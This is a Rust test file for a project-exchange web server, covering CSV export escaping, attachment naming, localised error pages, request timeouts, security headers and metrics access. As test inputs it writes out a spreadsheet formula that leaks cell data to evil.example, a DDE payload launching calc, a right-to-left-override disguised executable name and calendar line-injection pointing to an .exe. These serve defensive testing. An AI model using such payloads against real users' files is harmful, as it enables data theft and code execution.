//! The server's edges: what leaves in exports and downloads, errors under `/{lang}/…` as pages
//! in that language, body sizes and reading deadlines, security headers and `/metrics`.

use crate::documents::{create, french_practice};
use crate::on_both_databases;
use crate::support::{Backend, METRICS_TOKEN, Reply, TestApp};
use reqwest::{Method, StatusCode};
use serde_json::json;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn browser() -> reqwest::Client {
    reqwest::Client::builder().cookie_store(true).redirect(reqwest::redirect::Policy::none()).build().expect("client")
}

fn csrf_of(html: &str) -> String {
    html.split("name=\"csrf\" value=\"").nth(1).and_then(|r| r.split('"').next()).expect("a csrf field").to_owned()
}

/// A browser signed in through the sign-in form.
async fn signed_in(app: &TestApp, lang: &str, email: &str) -> reqwest::Client {
    let client = browser();
    let form = client.get(app.url(&format!("/{lang}/sign-in"))).send().await.expect("send").text().await.expect("body");
    let signed = client
        .post(app.url(&format!("/{lang}/sign-in")))
        .form(&[("email", email), ("password", "a long enough password"), ("csrf", &csrf_of(&form))])
        .send()
        .await
        .expect("send");
    assert_eq!(signed.status(), StatusCode::SEE_OTHER, "{email} signs in");
    client
}

/// The cells of a CSV text, read as a spreadsheet reads them (RFC 4180).
fn csv_cells(text: &str, separator: char) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut at_start = true;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        let row = rows.last_mut().expect("a row");
        match c {
            '"' if at_start => quoted = true,
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                row.last_mut().expect("a cell").push('"');
            }
            '"' if quoted => quoted = false,
            c if c == separator && !quoted => {
                row.push(String::new());
                at_start = true;
                continue;
            }
            '\r' if !quoted && chars.peek() == Some(&'\n') => {
                chars.next();
                rows.push(vec![String::new()]);
                at_start = true;
                continue;
            }
            other => row.last_mut().expect("a cell").push(other),
        }
        at_start = false;
    }
    rows.retain(|r| r.len() > 1 || r.first().is_some_and(|c| !c.is_empty()));
    rows
}

fn starts_a_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@'])
}

async fn formulas_in_deliverables_leave_every_csv_as_text(app: TestApp) {
    let coordinator = app.user_token("ana@example.ro", "bucharest-ilfov", "coordinator").await;
    let wp = app
        .post("/api/v1/work-packages", Some(&coordinator), &json!({ "code": "WP1", "titles": {"en": "Exchange"} }))
        .await;
    assert_eq!(wp.status, StatusCode::CREATED, "{}", wp.text);
    let title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open the report\")";
    let created = app
        .post(
            "/api/v1/deliverables",
            Some(&coordinator),
            &json!({
                "code": "D1.1", "work_package": "WP1", "period": "S2",
                "titles": {"en": title, "ro": "+1+cmd|' /C calc'!A0"},
                "description": "@SUM(1,2)", "due_on": "2025-06-30", "partners": ["bucharest-ilfov"]
            }),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text);

    let check = |text: &str, expected: &str, separator: char| {
        let rows = csv_cells(text, separator);
        assert!(rows.len() >= 2, "a header and a row: {text}");
        for row in &rows {
            for cell in row {
                assert!(!starts_a_formula(cell), "a spreadsheet would run {cell:?} in {text}");
            }
        }
        let row = rows.iter().find(|r| r[0] == "D1.1").expect("the deliverable's row");
        assert_eq!(row[1], format!("'{expected}"), "the title is kept, as text");
    };
    let api = app.request(Method::GET, "/api/v1/deliverables.csv?lang=en", Some(&coordinator)).send().await;
    check(&api.expect("send").text().await.expect("body"), title, ',');
    let api = app.request(Method::GET, "/api/v1/deliverables.csv?lang=ro", Some(&coordinator)).send().await;
    check(&api.expect("send").text().await.expect("body"), "+1+cmd|' /C calc'!A0", ';');

    let ana = signed_in(&app, "en", "ana@example.ro").await;
    let page = ana.get(app.url("/en/deliverables.csv")).send().await.expect("send");
    assert_eq!(page.status(), StatusCode::OK);
    check(&page.text().await.expect("body"), title, ',');
}

async fn attachments_are_named_by_their_content_and_download_from_pages(app: TestApp) {
    let ssd = app.user_token("claire@example.fr", "seine-saint-denis", "editor").await;
    let mut body = french_practice();
    body["visibility"] = json!("partnership");
    let created = create(&app, &ssd, "practices", &body).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text);
    let path = created.header("location").expect("location").to_owned();
    let id = path.rsplit('/').next().expect("id").to_owned();

    let pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec();
    let upload = |name: &'static str| {
        app.request(Method::POST, &format!("{path}/attachments"), Some(&ssd))
            .query(&[("filename", name)])
            .header("content-type", "application/octet-stream")
            .body(pdf.clone())
            .send()
    };
    // A PDF named as a web page is named as what it is.
    let minutes = Reply::from(upload("minutes.html").await.expect("send")).await;
    assert_eq!(minutes.status, StatusCode::CREATED, "{}", minutes.text);
    assert_eq!(minutes.body["filename"], "minutes.pdf");
    // A right-to-left override (U+202E) would show `invoice<RLO>fdp.exe` as `invoiceexe.pdf`.
    let invoice = Reply::from(upload("invoice\u{202E}fdp.exe").await.expect("send")).await;
    assert_eq!(invoice.body["filename"], "invoicefdp.pdf");
    let hidden = Reply::from(upload("\u{2066}report\u{200B}\u{2069}.pdf").await.expect("send")).await;
    assert_eq!(hidden.body["filename"], "report.pdf");
    let api_href = minutes.body["href"].as_str().expect("href").to_owned();
    let download = app.request(Method::GET, &api_href, Some(&ssd)).send().await.expect("send");
    let disposition = download.headers()["content-disposition"].to_str().expect("ascii").to_owned();
    assert!(disposition.contains("filename=\"minutes.pdf\""), "{disposition}");

    // A file stored before names were checked is shown and sent under a corrected name.
    let (doc, uploader) = (id.parse().expect("document id"), minutes_uploader(&app, "claire@example.fr"));
    let bytes = pdf.clone();
    let old = app
        .state
        .db
        .write(move |c| {
            mfx_store::attachments::add(
                c,
                doc,
                mfx_store::attachments::NewAttachment {
                    filename: "agenda\u{202E}lmth.html",
                    content_type: "application/pdf",
                    sha256: "0",
                    data: &bytes,
                    uploaded_by: uploader,
                },
                chrono::Utc::now(),
            )
        })
        .expect("an old row");
    let listed = app.get(&format!("{path}/attachments"), Some(&ssd)).await;
    let names: Vec<&str> =
        listed.body["items"].as_array().expect("items").iter().filter_map(|i| i["filename"].as_str()).collect();
    assert!(names.contains(&"agendalmth.pdf"), "{names:?}");

    // On the page, a member downloads through the page's link with the browser session.
    let claire = signed_in(&app, "fr", "claire@example.fr").await;
    let html =
        claire.get(app.url(&format!("/fr/practices/{id}"))).send().await.expect("send").text().await.expect("body");
    let link = format!("/fr/practices/{id}/attachments/{}", minutes.body["id"].as_str().expect("id"));
    assert!(html.contains(&format!("href=\"{link}\"")), "the page links its own download: {html}");
    assert!(html.contains(">agendalmth.pdf</a>"), "{html}");
    assert!(!html.contains("/api/v1/practices/"), "the page does not send the browser to the API");
    let file = claire.get(app.url(&link)).send().await.expect("send");
    assert_eq!(file.status(), StatusCode::OK);
    assert_eq!(file.headers()["content-type"], "application/pdf");
    let disposition = file.headers()["content-disposition"].to_str().expect("ascii").to_owned();
    assert!(disposition.starts_with("attachment;") && disposition.contains("minutes.pdf"), "{disposition}");
    assert!(file.headers()["content-security-policy"].to_str().expect("csp").contains("sandbox"));
    assert_eq!(file.bytes().await.expect("bytes").to_vec(), pdf);
    let old_link = format!("/fr/practices/{id}/attachments/{}", old.id);
    let old_file = claire.get(app.url(&old_link)).send().await.expect("send");
    assert!(old_file.headers()["content-disposition"].to_str().expect("ascii").contains("agendalmth.pdf"));

    // The public, and members who may not read the draft, get the page's 404.
    for client in [browser(), signed_in(&app, "it", &giulia(&app).await).await] {
        let refused = client.get(app.url(&link)).send().await.expect("send");
        assert_eq!(refused.status(), StatusCode::NOT_FOUND);
        assert!(refused.headers()["content-type"].to_str().expect("type").starts_with("text/html"));
        assert!(refused.text().await.expect("body").contains("<html lang=\"fr\">"));
    }
    let unknown = claire.get(app.url(&format!("/fr/practices/{id}/attachments/{}", uuid::Uuid::now_v7()))).send();
    assert_eq!(unknown.await.expect("send").status(), StatusCode::NOT_FOUND);
}

fn minutes_uploader(app: &TestApp, email: &str) -> mfx_domain::UserId {
    let email = mfx_domain::Email::parse(email).expect("email");
    app.state
        .db
        .read(move |c| mfx_store::accounts::find_by_email(c, &email))
        .expect("read")
        .map(|record| record.account.id)
        .expect("the account exists")
}

/// An editor of another partner, who may not read Seine-Saint-Denis's drafts.
async fn giulia(app: &TestApp) -> String {
    app.user_token("giulia@example.it", "bologna", "editor").await;
    "giulia@example.it".to_owned()
}

fn is_page_in(response_type: Option<&str>, body: &str, lang: &str) -> bool {
    response_type.is_some_and(|t| t.starts_with("text/html")) && body.contains(&format!("<html lang=\"{lang}\">"))
}

async fn errors_under_a_language_are_pages_in_it(app: TestApp) {
    app.user_token("ioana@example.ro", "bucharest-ilfov", "editor").await;
    let ioana = signed_in(&app, "ro", "ioana@example.ro").await;
    let form = ioana.get(app.url("/ro/practices/new")).send().await.expect("send").text().await.expect("body");
    let csrf = csrf_of(&form);

    // A long practice (about 500 KB as a form) saves.
    // Each text just under the 20,000 characters a field may hold.
    let long = "Știință și învățământ – îmbunătățiri în țară, 500–12 000 €; ".repeat(333);
    let fields = [
        "summary",
        "problem",
        "description",
        "resources",
        "timescale",
        "evidence_of_success",
        "difficulties",
        "transfer_potential",
        "stakeholders",
    ];
    let mut pairs = vec![
        ("csrf", csrf.clone()),
        ("language", "ro".to_owned()),
        ("visibility", "public".to_owned()),
        ("title", "Microcredit pentru economia socială".to_owned()),
    ];
    pairs.extend(fields.iter().map(|f| (*f, long.clone())));
    let encoded = serde_urlencoded::to_string(&pairs).expect("encode");
    assert!(encoded.len() > 500_000, "{} bytes", encoded.len());
    let saved = ioana
        .post(app.url("/ro/practices/new"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(encoded)
        .send()
        .await
        .expect("send");
    let status = saved.status();
    assert_eq!(status, StatusCode::SEE_OTHER, "{}", saved.text().await.unwrap_or_default());

    // Past the limit: 413 as a Romanian page.
    pairs.push(("discussion", long.repeat(12)));
    let too_big = serde_urlencoded::to_string(&pairs).expect("encode");
    assert!(too_big.len() > 1 << 20);
    let refused = ioana
        .post(app.url("/ro/practices/new"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(too_big)
        .send()
        .await
        .expect("send");
    assert_eq!(refused.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let kind = refused.headers().get("content-type").and_then(|v| v.to_str().ok()).map(str::to_owned);
    let body = refused.text().await.expect("body");
    assert!(is_page_in(kind.as_deref(), &body, "ro"), "{kind:?} {body}");
    assert!(body.contains("Prea mult conținut trimis deodată"), "{body}");

    let visitor = browser();
    let cases = [
        (Method::GET, "/sv/nothing/here", None, StatusCode::NOT_FOUND, "sv", "Sidan hittades inte"),
        (Method::POST, "/it/search", None, StatusCode::METHOD_NOT_ALLOWED, "it", "Questa azione non è possibile qui"),
        (
            Method::POST,
            "/fr/sign-in",
            Some("application/json"),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "fr",
            "La requête n’a pas pu être lue",
        ),
        (
            Method::GET,
            "/sl/practices?partner=a&partner=b",
            None,
            StatusCode::BAD_REQUEST,
            "sl",
            "Zahteve ni bilo mogoče prebrati",
        ),
    ];
    for (method, path, content_type, status, lang, text) in cases {
        let mut request = visitor.request(method, app.url(path));
        if let Some(content_type) = content_type {
            request = request.header("content-type", content_type).body("{}");
        }
        let response = request.send().await.expect("send");
        assert_eq!(response.status(), status, "{path}");
        let kind = response.headers().get("content-type").and_then(|v| v.to_str().ok()).map(str::to_owned);
        let body = response.text().await.expect("body");
        assert!(is_page_in(kind.as_deref(), &body, lang), "{path}: {kind:?} {body}");
        assert!(body.contains(text), "{path}: {body}");
    }

    // The API keeps its problems.
    app.get("/api/v1/nothing/here", None).await.assert_problem(StatusCode::NOT_FOUND, "no_route");

    // A failure underneath is a page too, without the cause, even when nothing of the page's
    // context (the account, the project's names) can be read.
    app.state
        .db
        .write(|conn| {
            use diesel::connection::SimpleConnection;
            conn.batch_execute(
                "ALTER TABLE partners RENAME TO partners_gone; ALTER TABLE project RENAME TO project_gone",
            )
            .map_err(mfx_store::StoreError::from)
        })
        .expect("rename");
    let failed = visitor.get(app.url("/sl/")).send().await.expect("send");
    assert_eq!(failed.status(), StatusCode::INTERNAL_SERVER_ERROR);
    let kind = failed.headers().get("content-type").and_then(|v| v.to_str().ok()).map(str::to_owned);
    let body = failed.text().await.expect("body");
    assert!(is_page_in(kind.as_deref(), &body, "sl"), "{kind:?} {body}");
    assert!(body.contains("Prišlo je do napake") && !body.contains("_gone"), "{body}");
    let shown = body.replace(['\u{2068}', '\u{2069}'], "");
    assert!(!shown.contains(" ·  · ") && !shown.contains("· </p>"), "no empty project names: {body}");
}

async fn line_breaks_in_meetings_cannot_start_calendar_properties(app: TestApp) {
    let maja = app.user_token("maja@example.si", "heart-of-slovenia", "editor").await;
    let title = "Srečanje\rLOCATION:Nowhere; \\ , konec";
    let place = "Kamnik\rATTACH:https://evil.example/x.exe\r\nX-EVIL:1\nend";
    let note = json!({
        "language": "sl", "visibility": "partnership", "meeting_type": "interregional_event",
        "starts_at": "2025-05-20T09:00:00", "ends_at": "2025-05-20T16:00:00", "time_zone": "Europe/Ljubljana",
        "place": place,
        "text": {"title": title}
    });
    let created = create(&app, &maja, "meeting-notes", &note).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text);
    let feed = app.post("/api/v1/me/calendar", Some(&maja), &json!({})).await;
    assert_eq!(feed.status, StatusCode::CREATED, "{}", feed.text);
    let url = feed.body["url"].as_str().expect("url");
    let path = url.split_once("/calendar/").map(|(_, rest)| format!("/calendar/{rest}")).expect("path");
    let text = app.client.get(app.url(&path)).send().await.expect("send").text().await.expect("body");

    let bytes = text.as_bytes();
    for (i, byte) in bytes.iter().enumerate() {
        match byte {
            b'\r' => assert_eq!(bytes.get(i + 1), Some(&b'\n'), "a bare CR at {i}: {text:?}"),
            b'\n' => assert_eq!(bytes.get(i.wrapping_sub(1)), Some(&b'\r'), "a bare LF at {i}: {text:?}"),
            _ => {}
        }
    }
    let unfolded = icalendar::parser::unfold(&text);
    let parsed = icalendar::parser::read_calendar(&unfolded).expect("the feed parses");
    let meeting = parsed
        .components
        .iter()
        .find(|c| {
            c.name == "VEVENT"
                && c.properties.iter().any(|p| p.name == "SUMMARY" && p.val.as_str().starts_with("Srečanje"))
        })
        .expect("the meeting");
    let values = |name: &str| -> Vec<String> {
        meeting.properties.iter().filter(|p| p.name == name).map(|p| p.val.as_str().to_owned()).collect()
    };
    assert_eq!(values("SUMMARY"), ["Srečanje\nLOCATION:Nowhere; \\ , konec"]);
    assert_eq!(values("LOCATION"), ["Kamnik\nATTACH:https://evil.example/x.exe\nX-EVIL:1\nend"]);
    assert!(values("ATTACH").is_empty() && values("X-EVIL").is_empty(), "{text}");
}

on_both_databases!(
    formulas_in_deliverables_leave_every_csv_as_text,
    line_breaks_in_meetings_cannot_start_calendar_properties,
    attachments_are_named_by_their_content_and_download_from_pages,
    errors_under_a_language_are_pages_in_it,
);

/// Sends `head`, then trickles the body a byte every 100 ms while reading the answer, until the
/// server closes the connection: when the answer began, when the connection closed, and what
/// came back.
async fn trickle(app: &TestApp, head: &str) -> (Option<Duration>, Duration, String) {
    let mut stream = tokio::net::TcpStream::connect(app.base.trim_start_matches("http://")).await.expect("connect");
    stream.write_all(head.as_bytes()).await.expect("headers");
    let started = Instant::now();
    let mut answered = None;
    let mut received = Vec::new();
    let mut buffer = [0_u8; 4096];
    loop {
        assert!(
            started.elapsed() < Duration::from_secs(8),
            "still open after 8 s: {}",
            String::from_utf8_lossy(&received)
        );
        tokio::select! {
            read = stream.read(&mut buffer) => match read {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    answered.get_or_insert(started.elapsed());
                    received.extend_from_slice(&buffer[..n]);
                }
            },
            () = tokio::time::sleep(Duration::from_millis(100)) => {
                if stream.write_all(b"a").await.is_err() {
                    break;
                }
            }
        }
    }
    (answered, started.elapsed(), String::from_utf8_lossy(&received).into_owned())
}

/// The answer comes at the one-second deadline, and the connection closes at most a second
/// later (the time a client gets to read the answer), both with a second to spare.
fn in_time(answered: Option<Duration>, closed: Duration, answer: &str) {
    assert!(answered.is_some_and(|t| t < Duration::from_secs(2)), "answered after {answered:?}: {answer}");
    assert!(closed < Duration::from_secs(3), "closed after {closed:?}");
}

#[actix_web::test]
async fn slow_bodies_are_cut_off_at_the_deadline() {
    let app = TestApp::spawn_with(Backend::Sqlite, &[("MFX_BODY_TIMEOUT_SECS", "1")]).await;
    let login = "POST /api/v1/auth/login HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{\"email\":\"";
    let (answered, closed, answer) = trickle(&app, login).await;
    in_time(answered, closed, &answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("application/problem+json") && answer.contains("request_timeout"), "{answer}");

    let sign_in = "POST /fr/sign-in HTTP/1.1\r\nHost: test\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nemail=";
    let (answered, closed, answer) = trickle(&app, sign_in).await;
    in_time(answered, closed, &answer);
    assert!(answer.starts_with("HTTP/1.1 408") && answer.contains("<html lang=\"fr\">"), "{answer}");

    // A body nobody reads is not waited for either.
    let health = "GET /healthz HTTP/1.1\r\nHost: test\r\nTransfer-Encoding: chunked\r\n\r\n100000\r\n";
    let (answered, closed, answer) = trickle(&app, health).await;
    in_time(answered, closed, &answer);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");

    // A body that arrives in time is read as usual.
    let quick = app.get("/healthz", None).await;
    assert_eq!(quick.status, StatusCode::OK);
    let login = app.login("nobody@example.org", "a long enough password").await;
    login.assert_problem(StatusCode::UNAUTHORIZED, "invalid_credentials");
}

fn assert_protected(reply: &Reply, what: &str) {
    assert_eq!(reply.header("x-content-type-options"), Some("nosniff"), "{what}");
    assert_eq!(reply.header("x-frame-options"), Some("DENY"), "{what}");
    let csp = reply.header("content-security-policy").unwrap_or_else(|| panic!("{what} has no CSP"));
    assert!(csp.contains("frame-ancestors 'none'"), "{what}: {csp}");
    assert!(reply.header("referrer-policy").is_some(), "{what}");
}

#[actix_web::test]
async fn every_response_carries_the_security_headers() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    for path in
        ["/en/", "/api/v1/partners", "/api/v1/nothing", "/en/nothing", "/static/app.css", "/api/docs/", "/healthz"]
    {
        let reply = app.get(path, None).await;
        assert_protected(&reply, path);
        assert_eq!(reply.header("strict-transport-security"), None, "no HSTS over http");
    }
    let docs = app.get("/api/docs/", None).await;
    assert_eq!(docs.status, StatusCode::OK);
    let csp = docs.header("content-security-policy").expect("csp");
    assert!(csp.contains("script-src 'self'") && !csp.contains("unsafe-eval"), "{csp}");
    let api = app.get("/api/v1/partners", None).await;
    assert!(api.header("content-security-policy").is_some_and(|c| c.starts_with("default-src 'none'")));

    let https = TestApp::spawn_with(Backend::Sqlite, &[("MFX_PUBLIC_URL", "https://exchange.example.org")]).await;
    for path in ["/en/", "/api/v1/partners", "/nothing"] {
        let reply = https.get(path, None).await;
        assert_protected(&reply, path);
        let hsts = reply.header("strict-transport-security").unwrap_or_else(|| panic!("{path} has no HSTS"));
        assert!(hsts.starts_with("max-age="), "{hsts}");
    }
}

#[actix_web::test]
async fn metrics_answer_only_the_configured_token() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    app.get("/metrics", None).await.assert_problem(StatusCode::UNAUTHORIZED, "unauthenticated");
    app.get("/metrics", Some("not-the-metrics-token-0000"))
        .await
        .assert_problem(StatusCode::UNAUTHORIZED, "unauthenticated");
    let admin = app.admin_token().await;
    app.get("/metrics", Some(&admin)).await.assert_problem(StatusCode::UNAUTHORIZED, "unauthenticated");
    let scraped = app.get("/metrics", Some(METRICS_TOKEN)).await;
    assert_eq!(scraped.status, StatusCode::OK);
    assert!(scraped.text.contains("mfx_http_requests_total"), "{}", scraped.text);

    let closed = TestApp::spawn_with(Backend::Sqlite, &[("MFX_METRICS_TOKEN", "")]).await;
    closed.get("/metrics", None).await.assert_problem(StatusCode::NOT_FOUND, "no_route");
    closed.get("/metrics", Some(METRICS_TOKEN)).await.assert_problem(StatusCode::NOT_FOUND, "no_route");
}
